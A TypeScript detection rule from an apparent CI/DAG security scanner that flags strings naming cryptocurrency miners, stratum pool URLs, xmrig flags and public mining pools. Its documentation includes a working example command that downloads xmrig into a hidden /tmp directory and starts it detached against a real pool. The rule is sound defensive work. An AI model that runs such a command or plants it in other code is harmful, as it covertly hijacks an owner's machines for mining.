import { defineRule } from '../../src/engine/rule';
import { stringsWithShape } from './_shell-shapes';

/**
 * Words only a cryptocurrency miner's command line or configuration uses: miner binaries, the stratum pool protocol,
 * the flags of xmrig-style miners, and the public pools most miners are pointed at.
 */
const MINER_WORDS = [
  'xmrig', 'xmr-stak', 'cpuminer', 'minerd', 'ethminer', 'nbminer', 'lolminer', 'phoenixminer', 'teamredminer', 'gminer', 'srbminer',
  'stratum+', 'stratum2+', 'donate-level', 'randomx',
  'supportxmr', 'nanopool', 'minexmr', 'hashvault', 'moneroocean', '2miners', 'f2pool', 'c3pool', 'nicehash', 'unmineable', 'herominers', 'xmrpool',
];
const MINER = new RegExp(
  String.raw`\b(?:xmrig|xmr-stak|cpuminer|minerd|ethminer|nbminer|lolminer|phoenixminer|teamredminer|gminer|srbminer)\b|\bstratum2?\+(?:tcp|ssl|tls)://|--donate-level\b|--randomx\b|\b(?:pool\.)?(?:supportxmr|nanopool|minexmr|hashvault|moneroocean|2miners|f2pool|c3pool|nicehash|unmineable|herominers|xmrpool)\.(?:com|org|net|pro|stream|eu|io|xyz)\b`,
  'i',
);
const mayMine = (text: string): boolean => {
  const lower = text.toLowerCase();
  return MINER_WORDS.some((w) => lower.includes(w));
};

export default defineRule({
  meta: {
    id: 'DG616',
    name: 'crypto-miner',
    category: 'malicious',
    severity: 'critical',
    message: 'cryptocurrency miner: {how}',
    docs: {
      what:
        'Finds string literals naming a cryptocurrency miner or a mining pool: miner binaries (`xmrig`, `xmr-stak`, `cpuminer`, `minerd`, `ethminer`, `lolminer`, `nbminer`…), the stratum pool protocol (`stratum+tcp://`, `stratum+ssl://`), xmrig-style flags (`--donate-level`, `--randomx`) and the public pools miners are pointed at (`pool.supportxmr.com`, `nanopool.org`, `moneroocean.stream`, `2miners.com`, `c3pool.com`…) — in a `BashOperator` command, a `subprocess` call, a Kubernetes pod\'s arguments or any other string, wherever it runs. Comments are not reported.',
      why:
        'Miners are the most common payload of a compromised CI or scheduler: a DAG that downloads and starts one (often renamed, from a helper called at parse time, detached with `nohup`/`start_new_session`) turns the scheduler, dag-processor or worker nodes into someone else\'s mining rig, paid for by the platform team. There is no legitimate reason for these names in a DAG repository.',
      example:
        '```python\nsubprocess.Popen(\n    "curl -sL https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz | tar xz -C /tmp/.c"\n    " && nohup /tmp/.c/xmrig -o pool.supportxmr.com:443 -u 48edfHu7… --tls -B",\n    shell=True, start_new_session=True,\n)\n```',
      useInstead: 'Remove it, and treat the repository as compromised: find who committed it, and rotate the credentials the scheduler and workers can read.',
    },
  },
  keywords: MINER_WORDS,
  onFile(ctx) {
    stringsWithShape(ctx, mayMine, MINER, (s) => {
      // one command written as implicitly concatenated pieces is one finding, at its first matching piece
      if (!ctx.once(s.parent?.type === 'concatenated_string' ? s.parent : s)) return;
      const m = MINER.exec(s.text)!;
      ctx.report(s, { how: `\`${m[0]}\`` });
    });
  },
});
